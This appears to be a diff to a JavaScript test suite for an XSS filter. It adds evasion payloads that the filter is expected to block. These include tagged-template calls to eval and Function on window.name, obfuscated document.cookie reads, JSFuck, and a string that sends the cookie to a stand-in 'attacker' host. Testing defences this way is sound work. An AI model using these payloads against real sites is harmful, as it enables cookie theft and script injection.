@@ -87,6 +87,8 @@ describe("xss: attacks are blocked", () => {
     ["call through a tagged template", "[].sort.call`${alert}1337`"],
     ["a probe called through a tagged template", "alert.call`1`"],
     ["the cookie interpolated through this", "`http://attacker?cookie=${this.document.cookie}`"],
+    ["window.name evaluated through a tagged template", "eval.call`,${name}`"],
+    ["window.name through Function in a breakout", "';Function.call`;${name}`//"],
     ["document.cookie hidden by comments", "document /*x*/ . /*y*/ cookie"],
     ["cookie read via bracket access", '(document)["cookie"]'],
     ["JSFuck", "(![]+[])[+!+[]]+(![]+[])[+[]]"],
